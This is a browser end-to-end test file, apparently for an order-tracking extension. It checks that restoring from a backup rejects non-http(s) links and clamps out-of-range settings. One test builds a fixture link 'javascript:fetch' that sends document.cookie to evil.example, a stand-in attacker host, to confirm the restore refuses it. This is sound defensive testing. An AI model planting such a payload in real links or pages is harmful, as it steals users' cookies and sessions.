/**
 * Restore through the orders page holds a file to the same rules as everything else: only
 * http(s) links (a link is opened on click), and settings as the settings form allows them.
 */
import { test, expect } from './fixtures';
import { readStorage, seedOrders, seedPanels } from '../../testing/seed';
import { makeOrder } from '../../testing/orders';

const file = (name: string, data: Record<string, unknown>) => ({
  name,
  mimeType: 'application/json',
  buffer: Buffer.from(JSON.stringify({ format: 'panelpilot-backup', version: 1, exportedAt: '2026-01-01T00:00:00.000Z', data })),
});

test.beforeEach(async ({ worker, panel }) => {
  await seedPanels(worker, [{ id: 'demo', name: 'Demo panel', apiUrl: panel.apiUrl, key: panel.key }]);
  await seedOrders(worker, [makeOrder('demo', '700')]);
});

test('a backup with a javascript: link is refused with where it is, and nothing changes', async ({ openPage, worker }) => {
  const page = await openPage('orders.html');
  await expect(page.getByText('1 order tracked')).toBeVisible();
  const before = await readStorage(worker, 'orders');
  const evil = makeOrder('demo', '701', { link: 'javascript:fetch("https://evil.example/?"+document.cookie)' });
  await page.getByLabel('Restore from backup file').setInputFiles(file('evil.json', { orders: [makeOrder('demo', '702'), evil], settings: { pollIntervalSec: 1 } }));
  await expect(page.getByRole('status')).toContainText('Order 2 (order 701): “link” must be a web address starting with http:// or https:// or null. Nothing was changed.');
  expect(await readStorage(worker, 'orders')).toEqual(before);
  await expect(page.getByText('1 order tracked')).toBeVisible();
});

test('restored settings are clamped as the settings form clamps them', async ({ openPage, worker }) => {
  const page = await openPage('orders.html');
  await page.getByLabel('Restore from backup file').setInputFiles(
    file('odd-settings.json', {
      orders: [makeOrder('demo', '702', { link: 'https://www.instagram.com/p/restored/' })],
      settings: { pollIntervalSec: 1, catalogTtlHours: 1e9, notify: { completed: false } },
    }),
  );
  await expect(page.getByRole('status')).toContainText('Restored 1 order and 0 panels.');
  await expect(page.getByText('2 orders tracked')).toBeVisible();
  expect(await readStorage(worker, 'settings')).toMatchObject({ pollIntervalSec: 30, catalogTtlHours: 720, notify: { completed: false, partial: true } });
  const options = await openPage('options.html');
  await expect(options.getByLabel('Check order status every (seconds)')).toHaveValue('30');
  await expect(options.getByLabel('Order completed')).not.toBeChecked();
});
